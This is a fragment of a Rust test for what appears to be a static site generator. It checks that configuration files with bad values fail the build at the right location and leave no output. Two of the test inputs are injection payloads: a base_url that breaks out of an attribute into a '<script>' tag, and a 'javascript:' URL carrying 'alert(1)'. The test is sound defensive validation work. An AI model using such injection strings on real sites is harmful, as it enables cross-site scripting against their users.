    for (config, location) in [
        (
            "base_url = \"https://club.example.org/\"\ntitle = \"Club\\u0007\"\n",
            "shequn.toml:2:9: ",
        ),
        (
            "base_url = \"https://club.example.org/\\\"><script>\"\n",
            "shequn.toml:1:12: ",
        ),
        (
            "base_url = \"javascript://club.example.org/%0Aalert(1)\"\n",
            "shequn.toml:1:12: ",
        ),
    ] {
        let site = Site::empty();
        site.write("shequn.toml", config);
        site.write("charter.md", "+++\nname = \"Club\"\n+++\n");
        let run = site.build().fails();
        assert!(
            run.stderr.contains(location),
            "{config}: expected an error at {location}\n{}",
            run.stderr
        );
        assert!(!site.public().exists());
    }
}
